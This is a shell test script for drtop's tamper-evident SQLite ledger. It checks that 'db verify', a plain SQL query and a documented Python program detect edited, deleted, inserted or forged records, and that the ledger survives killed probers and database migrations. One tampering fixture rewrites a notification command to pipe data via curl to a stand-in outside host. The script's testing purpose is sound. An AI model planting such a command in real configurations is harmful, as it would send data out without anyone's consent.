#!/bin/sh
# The ledger: every tampering an auditor fears is found by 'drtop db verify'
# and by the plain sqlite3 query of doc/auditing.md (db/ledger-verify.sql);
# an untouched database, also one whose prober was killed, verifies intact.
. "$SRCDIR/tests/lib.sh"
unset DRTOP_NOW
start_server
QUERY="$SRCDIR/db/ledger-verify.sql"
DOC="$SRCDIR/doc/auditing.md"
# block NAME: the code block after <!-- ledger: NAME --> in doc/auditing.md
block() {
	awk -v n="$1" '$0 == "<!-- ledger: " n " -->" { f = 1; next } f && /^```/ && !g { g = 1; next }
		g && /^```/ { exit } g { print }' "$DOC"
}
block verify >"$T/doc.sql"
block python >"$T/verify.py"
ok "doc/auditing.md gives the query drtop runs" cmp -s "$T/doc.sql" "$QUERY"

# Evidence of every kind, all written by drtop.
"$DRTOP" system add web --rto 1h --rpo 1h >/dev/null
"$DRTOP" system add db --rto 2h --rpo 15m --strategy warm-standby >/dev/null
"$DRTOP" endpoint add web "$URL/health" --interval 1s --timeout 1s >/dev/null
"$DRTOP" schedule add db nightly --every 1d --duration 10m >/dev/null
"$DRTOP" depend add web --on db >/dev/null
"$DRTOP" config set backup-grace 2h >/dev/null
"$DRTOP" checkin db --schedule nightly >/dev/null
"$DRTOP" checkin db --schedule nightly --failed --at -2h >/dev/null
"$DRTOP" drill add db --kind restore --started -3d --recovered -71h >/dev/null
"$DRTOP" maintenance add web --from -1d --to -23h --reason "kernel update" >/dev/null
"$DRTOP" notify add oncall --kind exec --command 'logger -t drtop' >/dev/null
ctl mode/status/500 >/dev/null
"$DRTOP" probe --once >/dev/null
"$DRTOP" probe --once >/dev/null
ctl mode/up >/dev/null
"$DRTOP" probe --once >/dev/null
"$DRTOP" status >/dev/null
"$DRTOP" --now -2d checkin db --note "told late" >/dev/null

ok "an outage was opened and closed" test "$(sql "SELECT count(*) FROM outage WHERE ended_ms IS NOT NULL")" -eq 1
ok "every kind of fact is in the ledger" test "$(sql "SELECT count(DISTINCT kind) FROM ledger WHERE kind IN ('genesis', 'system.insert',
	'endpoint.insert', 'backup_schedule.insert', 'dependency.insert', 'setting.update', 'checkin.insert',
	'drill.insert', 'maintenance_window.insert', 'outage.insert', 'outage.update', 'status_history.insert',
	'audit_log.insert', 'probe_result.batch', 'objective_history.insert')")" -eq 15
ok "one entry per probe batch, not per probe" test "$(sql "SELECT count(*) FROM ledger WHERE kind = 'probe_result.batch'")" -eq 3
ok "the genesis entry says what it covers" sh -c "sqlite3 '$DRTOP_DB' \"SELECT payload FROM ledger WHERE seq = 1\" | grep -q 'contents of the database when the ledger began'"
real=$(date +%s)
ok "--now never dates a ledger entry" test "$(sql "SELECT count(*) FROM ledger WHERE abs(recorded_at - $real) > 60")" -eq 0
# Why objectives changed: --reason, required when the setting says so.
"$DRTOP" system set db --rpo 10m --reason "agreed with finance, OPS-12" >/dev/null
ok "--reason is kept in the ledger entry of the change" test "$(sql "SELECT payload ->> '\$.reason' FROM ledger WHERE kind = 'system.update' ORDER BY seq DESC LIMIT 1")" = "agreed with finance, OPS-12"
"$DRTOP" config set require-reason yes >/dev/null
fails "require-reason: an RTO change without a reason is refused" 64 "needs --reason TEXT (the require-reason setting is on)" system set db --rto 3h
fails "so is a strategy's typical figure" 64 "needs --reason TEXT" strategy set pilot-light --rto 20m
fails "a reason with a control character" 65 "--reason contains a control character" system set db --rto 3h --reason "$(printf 'a\033[2Jb')"
succeeds "the owner changes without one" system set db --owner dba
succeeds "the tier with one" system set db --tier 1 --reason "now customer-facing"
"$DRTOP" config set require-reason no >/dev/null
ok "the actor is the user drtop runs as" test "$(sql "SELECT DISTINCT actor FROM ledger WHERE seq > 1")" = "$(id -un)"

succeeds "db verify: an untouched database is intact" db verify
ok "it says so, with the head" out_has "intact: $(sql "SELECT max(seq) FROM ledger") ledger entries, head $(sql "SELECT seq || ':' || hash FROM ledger ORDER BY seq DESC LIMIT 1")"
ok "the plain sqlite3 query finds nothing" test -z "$(sqlite3 "$DRTOP_DB" <"$QUERY")"
ok "nor the Python program of doc/auditing.md" sh -c "python3 '$T/verify.py' '$DRTOP_DB' '$QUERY' >'$T/py' && grep -q '^intact, head ' '$T/py'"
succeeds "db check includes it" db check
succeeds "db anchor prints the head" db anchor
ok "as SEQ:HASH" test "$(cat "$T/out")" = "$(sql "SELECT seq || ':' || hash FROM ledger ORDER BY seq DESC LIMIT 1")"
anchor=$(cat "$T/out")
"$DRTOP" report --format json >"$T/report.json"
ok "a report carries the head it was computed from" test "$(sqlite3 :memory: "SELECT json_extract(readfile('$T/report.json'), '\$.ledger_head')")" = "$anchor"
"$DRTOP" report --format text >"$T/report.txt"
ok "the text report too" grep -qx "ledger head: $anchor" "$T/report.txt"
succeeds "db verify --anchor with the head" db verify --anchor "$anchor"
fails "a malformed anchor" 64 "--anchor: '12:abc' is not SEQ:HASH" db verify --anchor 12:abc

sql "PRAGMA wal_checkpoint(TRUNCATE)" >/dev/null
cp "$DRTOP_DB" "$T/base.db"

# tamper DESCRIPTION SUBJECT PROBLEM SQL: run SQL on a fresh copy with the
# sqlite3 shell; db verify must exit 65 naming SUBJECT and PROBLEM, and the
# plain query must name them too.
tamper() {
	what=$1 subject=$2 problem=$3
	rm -f "$DRTOP_DB" "$DRTOP_DB-wal" "$DRTOP_DB-shm"
	cp "$T/base.db" "$DRTOP_DB"
	sqlite3 "$DRTOP_DB" "$4" || echo "# the tampering itself failed"
	run db verify
	ok "$what: db verify finds it" sh -c "test $rc -eq 65 && grep -qF -- '$subject: $problem' '$T/out' && grep -q 'NOT intact' '$T/out'"
	sqlite3 "$DRTOP_DB" <"$QUERY" >"$T/plain"
	ok "$what: the plain sqlite3 query too" grep -qF -- "|$subject|$problem" "$T/plain"
	ok "$what: and the Python program" sh -c "! python3 '$T/verify.py' '$DRTOP_DB' '$QUERY' >'$T/py' && grep -q '^$subject: ' '$T/py'"
}
# recreate TRIGGER SQL: SQL, between dropping TRIGGER and recreating it exactly
recreate() {
	printf 'DROP TRIGGER %s; %s; %s;' "$1" "$2" \
		"$(sqlite3 "$T/base.db" "SELECT sql FROM sqlite_schema WHERE name = '$1'")"
}

tamper "an edited outage" "outage 1" "changed outside drtop" \
	"UPDATE outage SET ended_ms = started_ms + 1000"
last_audit=$(sql "SELECT max(id) FROM audit_log")
tamper "a deleted audit entry, trigger recreated exactly" "audit_log $last_audit" "deleted outside drtop" \
	"$(recreate audit_log_no_delete "DELETE FROM audit_log WHERE id = $last_audit")"
run db check
ok "(the schema check alone finds nothing)" out_lacks "schema:"
tamper "an inserted check-in" "checkin 4" "not in the ledger" \
	"INSERT INTO checkin (system_id, at, ok, recorded_at) VALUES (2, 1795600000, 1, 1795600000)"
tamper "a changed RPO, without an audit entry" "system 1" "changed outside drtop" \
	"$(recreate audit_system_update "UPDATE system SET rpo_s = 86400 WHERE id = 1")"
last_status=$(sql "SELECT max(id) FROM status_history")
tamper "a deleted status change" "status_history $last_status" "deleted outside drtop" \
	"DELETE FROM status_history WHERE id = $last_status"
tamper "a notification command changed" "notify_channel 1" "changed outside drtop" \
	"UPDATE notify_channel SET target = 'curl -d @- https://elsewhere.example/'"
tamper "an edited probe result" "probe_result 1-1" "changed outside drtop: the digest of the rows differs" \
	"UPDATE probe_result SET ok = 1, status_code = 200, error = NULL WHERE ok = 0"
tamper "a deleted probe result" "probe_result 2-2" "rows added or deleted outside drtop" \
	"DELETE FROM probe_result WHERE id = 2"
tamper "an inserted probe result" "probe_result 4-4" "not in the ledger: written outside drtop" \
	"INSERT INTO probe_result (endpoint_id, at_ms, ok) VALUES (1, 1795600000000, 1)"
tamper "a removed entry" "ledger entry 6" "entry 5 before it is missing: removed" \
	"$(recreate ledger_no_delete "DELETE FROM ledger WHERE seq = 5")"
ok "... named once, not again at every entry after it" test "$(grep -c '^ledger entry' "$T/out")" -eq 1
# The newest entries cut, the rows they recorded left: no hash inside the
# file shows the cut, so each row is named as either (an anchor tells which).
last_checkin=$(sqlite3 "$T/base.db" "SELECT max(id) FROM checkin")
tamper "the newest entry cut from the ledger, its row left" "checkin $last_checkin" \
	"not in the ledger: written outside drtop, or its entry cut from the ledger" \
	"$(recreate ledger_no_delete "DELETE FROM ledger WHERE seq >= (SELECT max(seq) FROM ledger WHERE kind = 'checkin.insert' AND payload ->> '\$.id' = $last_checkin)")"
# The endpoint's state the live verdict reads: a newer probe made up (no
# prober-stale), a recovery point no probe reported (a smaller data lag).
tamper "a newest probe made up in the endpoint's state" "endpoint_state of endpoint 1" \
	"changed outside drtop: no probe result at its newest probe time" \
	"UPDATE endpoint_state SET last_probe_ms = last_probe_ms + 3600000"
tamper "a recovery point made up in the endpoint's state" "endpoint_state of endpoint 1" \
	"changed outside drtop: no successful probe result reported its recovery point" \
	"UPDATE endpoint_state SET data_time = 1795600000, data_seen_ms = last_probe_ms"
tamper "a reordered entry" "ledger entry 5" "its hash does not match its contents" \
	"$(recreate ledger_no_update "UPDATE ledger SET seq = -seq WHERE seq IN (5, 6); UPDATE ledger SET seq = 11 + seq WHERE seq IN (-5, -6)")"
tamper "an edited ledger entry" "ledger entry 3" "its hash does not match its contents" \
	"$(recreate ledger_no_update "UPDATE ledger SET payload = replace(payload, '86400', '60') WHERE seq = 3")"
tamper "a forged actor" "ledger entry $(($(sqlite3 "$T/base.db" "SELECT max(seq) FROM ledger") + 1))" "not sealed: written outside drtop" \
	"INSERT INTO audit_context (id, actor, at) VALUES (1, 'someone-else', 1795600000);
	 INSERT INTO checkin (system_id, at, ok, recorded_at) VALUES (2, 1795600000, 1, 1795600000);
	 DELETE FROM audit_context"
ok "an altered view is named" sh -c "
	rm -f '$DRTOP_DB'*; cp '$T/base.db' '$DRTOP_DB'
	sqlite3 '$DRTOP_DB' \"DROP VIEW v_checkins; CREATE VIEW v_checkins AS SELECT 1\"
	'$DRTOP' db verify >'$T/out'; test \$? -eq 65 && grep -q 'view v_checkins is missing or altered' '$T/out'"
ok "an added trigger is named" sh -c "
	rm -f '$DRTOP_DB'*; cp '$T/base.db' '$DRTOP_DB'
	sqlite3 '$DRTOP_DB' \"CREATE TRIGGER hide AFTER INSERT ON outage BEGIN DELETE FROM outage WHERE id = NEW.id; END\"
	'$DRTOP' db verify >'$T/out'; test \$? -eq 65 && grep -q 'unexpected trigger hide' '$T/out'"

# A truncated ledger, with the row its last entry recorded deleted too, is
# consistent in itself: only an anchor kept outside the file shows it.
rm -f "$DRTOP_DB"*
cp "$T/base.db" "$DRTOP_DB"
"$DRTOP" checkin db --note "the last fact" >/dev/null
anchor=$("$DRTOP" db anchor)
head=${anchor%%:*}
sqlite3 "$DRTOP_DB" "$(recreate ledger_no_delete "DELETE FROM ledger WHERE seq = $head; DELETE FROM checkin WHERE note = 'the last fact'")"
succeeds "a truncated ledger without an anchor looks intact" db verify
run db verify --anchor "$anchor"
ok "with the anchor, db verify finds it" sh -c "test $rc -eq 65 && grep -q 'ledger entry $head: missing: the ledger ends at entry $((head - 1))' '$T/out' && grep -q 'the first ledger entry the file no longer agrees with is $head' '$T/out'"
ok "the plain anchor query too" test "$(sql "SELECT count(*) FROM ledger WHERE seq = ${anchor%%:*} AND hash = '${anchor#*:}'")" -eq 0

# kill -9 in the middle of probing: what was committed is intact.
rm -f "$DRTOP_DB"*
cp "$T/base.db" "$DRTOP_DB"
for i in 1 2 3 4 5 6 7 8; do
	"$DRTOP" endpoint add db "$URL/delay/$((i * 20))" --interval 200ms --timeout 1s >/dev/null
done
"$DRTOP" probe --watch >/dev/null 2>&1 &
watch_pid=$!
pids="$pids $watch_pid"
waiting() { [ "$(sql "SELECT count(*) FROM ledger_pending WHERE tbl = 'probe_result'")" -ge "$1" ]; }
ok "the watcher's results wait to be sealed (seal-every, 1m)" wait_for 15 waiting 4
kill -9 "$watch_pid"
wait "$watch_pid" 2>/dev/null
succeeds "after kill -9, db verify: intact" db verify
ok "... and says how many results wait for their batch entry" out_has "wait for their batch entry"
ok "and the plain query finds nothing" test -z "$(sqlite3 "$DRTOP_DB" <"$QUERY")"
gap=$(sql "SELECT min(id) FROM probe_result WHERE endpoint_id = (SELECT id FROM endpoint WHERE url = '$URL/delay/20')")
waited=$(sql "SELECT sum(rows) FROM ledger_pending")
"$DRTOP" endpoint rm --purge "$(sql "SELECT id FROM endpoint WHERE url = '$URL/delay/20'")" >/dev/null || echo "# endpoint rm failed"
ok "the next drtop write seals what the killed watcher left, before it removes anything" \
	test "$(sql "SELECT count(*) FROM ledger_pending")|$(sql "SELECT sum(payload ->> '$.rows') FROM ledger WHERE kind = 'probe_result.batch' AND seq > (SELECT max(seq) FROM ledger WHERE kind = 'probe_result.batch') - 1")" = "0|$waited"
succeeds "an endpoint removed with its probe results by drtop: intact" db verify
ok "... its results' canonical texts kept in the ledger" test "$(sql "SELECT payload ->> '$.rows' > 0 FROM ledger WHERE kind = 'probe_result.removal'")" = 1
ok "a probe batch is one digest whatever it holds" test "$(sql "SELECT count(*) FROM ledger WHERE kind = 'probe_result.batch' AND (payload -> '$.endpoints' IS NOT NULL OR length(payload ->> '$.sha3') <> 64)")" = 0
sql "INSERT INTO probe_result (id, endpoint_id, at_ms, ok) VALUES ($gap, 1, 1000, 1)"
run db verify
ok "a probe result slipped into the hole it left is found" sh -c "test $rc -eq 65 && grep -q 'rows added or deleted outside drtop: the ledger has [0-9]*, the table [0-9]*' '$T/out'"
sql "DELETE FROM probe_result WHERE id = $gap"

# --- the watcher seals its batches once a minute (seal-every) ---
rm -f "$DRTOP_DB"*
cp "$T/base.db" "$DRTOP_DB"
"$DRTOP" endpoint add db "$URL/health" --interval 100ms --timeout 1s >/dev/null
"$DRTOP" config set seal-every 1h >/dev/null
nbatch() { sql "SELECT count(*) FROM ledger WHERE kind = 'probe_result.batch'"; }
b0=$(nbatch)
"$DRTOP" probe --watch >/dev/null 2>"$T/watch.err" &
watch_pid=$!
pids="$pids $watch_pid"
ok "a second's results wait as one range, in the transaction that wrote them" wait_for 15 waiting 3
ok "no batch entry while they wait" test "$(nbatch)" = "$b0"
succeeds "db verify: intact" db verify
ok "... with the results that wait counted apart" out_has "wait for their batch entry"
ok "the plain query finds nothing" test -z "$(sqlite3 "$DRTOP_DB" <"$QUERY")"
query() { awk -v n="$1" '$0 == "<!-- query: " n " -->" { f = 1; next }
	f && /^```sql/ { g = 1; next } g && /^```/ { exit } g { print }' "$DOC"; }
ok "the guide's query lists the ranges that wait" \
	test "$(sqlite3 "$DRTOP_DB" "$(query 34)" | grep -c '^probe_result|[0-9]*|[0-9]*|[0-9]*|20[0-9-]* [0-9:]*$')" -ge 3
slipped=$(sql "INSERT INTO probe_result (endpoint_id, at_ms, ok) VALUES (1, $(now_ms), 1) RETURNING id")
after() { [ "$(sql "SELECT count(*) FROM ledger_pending WHERE first > $slipped")" -ge 2 ]; }
ok "the watcher goes on" wait_for 15 after
run db verify
ok "a result slipped in while results wait is named" sh -c "test $rc -eq 65 && grep -q '^probe_result $slipped-$slipped: not in the ledger: written outside drtop' '$T/out'"
kill -TERM "$watch_pid"
wait "$watch_pid"
ok "the watcher stops cleanly" test $? -eq 0
ok "and seals what waits" test "$(sql "SELECT count(*) FROM ledger_pending")" = 0
ok "in two entries, either side of the slipped row: the ranges next to each other joined" \
	test "$(nbatch)|$(sql "SELECT count(*) FROM ledger WHERE kind = 'probe_result.batch' AND $slipped BETWEEN payload ->> '$.first' AND payload ->> '$.last'")" = "$((b0 + 2))|0"
run db verify
ok "the slipped row is still named, and only it" sh -c "test $rc -eq 65 && test \"\$(grep -c 'outside drtop' '$T/out')\" = 1 && grep -q '^probe_result $slipped-$slipped: not in the ledger' '$T/out'"
sql "DELETE FROM probe_result WHERE id = $slipped"
succeeds "without it: intact" db verify
"$DRTOP" config set seal-every 2s >/dev/null
b1=$(nbatch)
"$DRTOP" probe --watch >/dev/null 2>"$T/watch.err" &
watch_pid=$!
pids="$pids $watch_pid"
ok "with seal-every 2s, entries come while it runs" wait_for 15 sh -c "test \$(sqlite3 '$DRTOP_DB' \"SELECT count(*) FROM ledger WHERE kind = 'probe_result.batch'\") -ge $((b1 + 2))"
ok "each of the watcher's commits of about a second together" \
	test "$(sql "SELECT max(payload ->> '$.to_ms' - (payload ->> '$.from_ms')) >= 1500 FROM ledger WHERE kind = 'probe_result.batch' AND seq > (SELECT max(seq) FROM ledger WHERE kind = 'probe_result.batch') - 2")" = 1
kill -TERM "$watch_pid"
wait "$watch_pid"
succeeds "intact" db verify

# Waiting rows removed or changed outside drtop are named, before and after
# they are sealed; a prober killed while they wait is told apart.
rm -f "$DRTOP_DB"*
cp "$T/base.db" "$DRTOP_DB"
"$DRTOP" config set seal-every 1h >/dev/null
"$DRTOP" probe --watch >/dev/null 2>"$T/watch.err" &
watch_pid=$!
pids="$pids $watch_pid"
ok "results wait" wait_for 15 waiting 3
kill -9 "$watch_pid"
wait "$watch_pid" 2>/dev/null
range() { sql "SELECT first || '-' || last FROM ledger_pending WHERE tbl = 'probe_result' ORDER BY first LIMIT 1 OFFSET $1"; }
gone=$(range 0) changed=$(range 1)
sql "DELETE FROM probe_result WHERE id = ${gone%-*}; UPDATE probe_result SET ok = 0, error = 'forged' WHERE id = ${changed%-*}"
run db verify
ok "while they wait: a row deleted is named" sh -c "test $rc -eq 65 && grep -q '^probe_result $gone (waiting for its batch entry): rows added or deleted outside drtop: noted' '$T/out'"
ok "and a row changed" grep -q "^probe_result $changed (waiting for its batch entry): changed outside drtop: the digest of the rows differs" "$T/out"
ok "the plain query names them too" test "$(sqlite3 -readonly "$DRTOP_DB" <"$QUERY" | grep -c waiting)" = 2
ok "db verify says how many wait, and since when" grep -q "recorded since [0-9-]*T[0-9:]*Z, wait for their batch entry" "$T/out"
sql "UPDATE ledger_pending SET at_ms = at_ms - 86400000"
run db verify
ok "ranges that waited far longer than seal-every: a prober stopped short" grep -q "wait for their batch entry; longer than seal-every: the prober that wrote them stopped short" "$T/out"
fails "seal-every is at most an hour" 65 "seal-every: at most 1h" config set seal-every 2h
"$DRTOP" config set seal-every 1m >/dev/null # a write: it seals them
ok "sealed" test "$(sql "SELECT count(*) FROM ledger_pending")" = 0
run db verify
ok "sealed as noted, each on its own: the deleted row is named" sh -c "test $rc -eq 65 && grep -q '^probe_result $gone: rows added or deleted outside drtop: the ledger has' '$T/out'"
ok "and the changed one" grep -q "^probe_result $changed: changed outside drtop: the digest of the rows differs" "$T/out"

# Rollups the watcher folds wait too, and are sealed as one probe_rollup.batch.
rm -f "$DRTOP_DB"*
cp "$T/base.db" "$DRTOP_DB"
"$DRTOP" config set seal-every 1h >/dev/null
"$DRTOP" endpoint add db "$URL/health?old" --interval 100ms --timeout 1s >/dev/null
old=$(sql "SELECT max(id) FROM endpoint")
hour=$(($(date +%s) / 3600 * 3600 - 7200))
sql "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 119)
  INSERT INTO probe_result (endpoint_id, at_ms, ok, latency_ms) SELECT $old, ($hour + i * 30) * 1000, 1, 5 FROM n"
foreign=$(sql "SELECT max(id) FROM probe_result")
"$DRTOP" config set retention 1h >/dev/null
r0=$(sql "SELECT count(*) FROM ledger WHERE kind = 'probe_rollup.batch'")
"$DRTOP" probe --watch >/dev/null 2>"$T/watch.err" &
watch_pid=$!
pids="$pids $watch_pid"
rollups_wait() { [ "$(sql "SELECT count(*) FROM ledger_pending WHERE tbl = 'probe_rollup'")" -ge 1 ]; }
ok "the watcher folds an old hour" wait_for 15 rollups_wait
ok "its rollups wait, without an entry" test "$(sql "SELECT count(*) FROM ledger WHERE kind = 'probe_rollup.batch'")" = "$r0"
kill -TERM "$watch_pid"
wait "$watch_pid"
ok "at its stop they are sealed" test "$(sql "SELECT count(*) FROM ledger_pending")|$(sql "SELECT count(*) FROM ledger WHERE kind = 'probe_rollup.batch'")" = "0|$((r0 + 1))"
run db verify
one_entry() { [ "$(sql "SELECT (SELECT count(*) FROM probe_rollup) = (SELECT payload ->> '\$.rows' FROM ledger WHERE kind = 'probe_rollup.batch' ORDER BY seq DESC LIMIT 1)")" = 1 ]; }
ok "the rollups verify" sh -c "test $rc -le 65 && ! grep -q '^probe_rollup' '$T/out'"
ok "all in the one entry" one_entry
"$DRTOP" config set retention 30d >/dev/null
"$DRTOP" config set seal-every 1m >/dev/null
sql "DELETE FROM probe_result WHERE id <= $foreign AND endpoint_id = $old" # what pruning kept of them

# probe --watch sends the head to the system log at the anchor-log interval.
# The log is a listener on /dev/log in a mount namespace of the test's own;
# without root or unshare(1) that part is skipped.
"$DRTOP" config set anchor-log 1s >/dev/null
"$DRTOP" config set seal-every 1s >/dev/null # the head moves when a commit seals entries
cat >"$T/ns.sh" <<'EOS'
set -e
mkdir "$T/olddev"
mount --bind /dev "$T/olddev"
mount -t tmpfs none /dev
for n in null zero random urandom; do touch "/dev/$n"; mount --bind "$T/olddev/$n" "/dev/$n"; done
python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.bind("/dev/log")
open(sys.argv[1] + ".ready", "w").close()
msg = s.recv(4096).decode(errors="replace")
open(sys.argv[1], "w").write(msg + "\n")' "$T/syslog" &
while [ ! -e "$T/syslog.ready" ]; do sleep 0.1; done
exec "$DRTOP" probe --watch >/dev/null 2>&1
EOS
if [ "$(id -u)" -eq 0 ] && unshare -m sh -c "mount -t tmpfs none '$T'" 2>/dev/null; then
	T="$T" DRTOP="$DRTOP" unshare -m sh "$T/ns.sh" &
	ns_pid=$!
	pids="$pids $ns_pid"
	ok "probe --watch logs the ledger's head to syslog" wait_for 15 grep -q "drtop\[[0-9]*\]: ledger head of $DRTOP_DB: [0-9]*:[0-9a-f]\{64\}" "$T/syslog"
	kill -TERM "$ns_pid" 2>/dev/null
	wait "$ns_pid" 2>/dev/null
	logged=$(sed -n 's/.*: \([0-9]*:[0-9a-f]\{64\}\)$/\1/p' "$T/syslog")
	succeeds "an anchor it logged verifies" db verify --anchor "$logged"
else
	n=$((n + 1))
	echo "ok $n # SKIP no mount namespace for a /dev/log of the test's own"
fi

# An older database gets a genesis entry covering what it holds.
old="$T/old.db"
for f in "$SRCDIR"/db/000[1-5]-*.sql; do sqlite3 "$old" <"$f"; done
sqlite3 "$old" "PRAGMA user_version = 5;
	INSERT INTO system (name, rto_s, rpo_s, created_at, updated_at) VALUES ('legacy', 7200, 600, 1, 1);
	INSERT INTO endpoint (system_id, url, created_at, updated_at) VALUES (1, 'http://127.0.0.1:9/', 1, 1);
	INSERT INTO probe_result (endpoint_id, at_ms, ok) VALUES (1, 1000, 1), (1, 2000, 0);
	INSERT INTO outage (endpoint_id, system_id, started_ms) VALUES (1, 1, 2000)"
succeeds "an older database migrates" --db "$old" db migrate
ok "its rows are entries of the genesis" test "$(sqlite3 "$old" "SELECT group_concat(kind, ' ') FROM ledger WHERE kind IN ('genesis', 'system.existing', 'outage.existing', 'probe_result.batch')")" = "genesis system.existing outage.existing probe_result.batch"
succeeds "and verifies intact" --db "$old" db verify
ok "by the plain query too" test -z "$(sqlite3 "$old" <"$QUERY")"
sqlite3 "$old" "UPDATE outage SET ended_ms = 3000"
run --db "$old" db verify
ok "a change to what the genesis covered is found" sh -c "test $rc -eq 65 && grep -q 'outage 1: changed outside drtop' '$T/out'"

# Entries written outside drtop (its triggers fired by hand, never sealed),
# then one of drtop's own: the foreign ones are named, drtop's is not blamed
# for a changed content it does not have.
u="$T/unsealed.db"
"$DRTOP" --db "$u" system add web --rto 1h --rpo 1h >/dev/null
sqlite3 "$u" "BEGIN; INSERT INTO audit_context (id, actor, at) VALUES (1, 'x', 0);
	UPDATE system SET owner = 'mallory' WHERE name = 'web'; DELETE FROM audit_context; COMMIT;"
"$DRTOP" --db "$u" checkin web >/dev/null
own=$(sqlite3 "$u" "SELECT max(seq) FROM ledger")
run --db "$u" db verify
ok "entries written outside drtop are named not sealed" sh -c "test $rc -eq 65 && grep -q ': not sealed: written outside drtop' '$T/out'"
ok "drtop's own entry after them is said to follow one, not to be changed" \
	sh -c "grep -q '^ledger entry $own: it follows entry $((own - 1)), which is not sealed' '$T/out' && ! grep -q '^ledger entry $own: its hash does not match' '$T/out'"
ok "the plain sqlite3 query says the same" \
	sh -c "sqlite3 -readonly '$u' <'$QUERY' | grep -q '^$own|ledger entry $own|it follows entry $((own - 1)), which is not sealed'"

done_testing
